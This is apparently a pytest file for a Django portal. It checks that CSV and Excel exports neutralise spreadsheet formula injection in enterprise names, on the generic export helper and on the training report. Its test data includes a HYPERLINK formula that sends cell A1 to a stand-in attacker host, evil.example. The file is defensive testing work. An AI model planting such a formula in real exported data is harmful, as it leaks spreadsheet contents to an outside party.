"""Exports never carry a live formula: an enterprise named ``=HYPERLINK(...)`` (enterprise staff may
propose such a name) is text in the CSV (apostrophe first) and a string cell in the .xlsx — on the
training report and the dashboard, through portal/exports.py."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.exports import export_response

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _csv(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8-sig")


def _xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def test_export_response_neutralises_formulas_in_both_formats():
    rows = [{"name": EVIL}, {"name": "+1+2"}, {"name": "-3"}, {"name": "@SUM(A1)"}, {"name": "正常企业"}]
    columns = [("Name", "name")]
    text = _csv(export_response(rows, columns, fmt="csv", filename="t"))
    assert f"'{EVIL}".replace('"', '""') in text and "'+1+2" in text and "'@SUM(A1)" in text
    assert "\n正常企业" in text.replace("\r", "")
    cells = _xlsx_cells(export_response(rows, columns, fmt="xlsx", filename="t"))
    assert all(cell.data_type == "s" for cell in cells)
    assert [c.value for c in cells][1] == EVIL  # kept as the text it is, not evaluated


def test_the_training_report_exports_a_formula_name_as_text(login, world):
    enterprise = world.new_enterprise(name_zh=EVIL)
    world.new_contact(enterprise)
    client = login(world.officer)
    url = reverse("outreach:training_report")
    assert f"'{EVIL}".replace('"', '""') in _csv(client.get(url + "?format=csv"))
    cells = _xlsx_cells(client.get(url + "?format=xlsx"))
    named = [c for c in cells if c.value == EVIL]
    assert named and all(c.data_type == "s" for c in named)
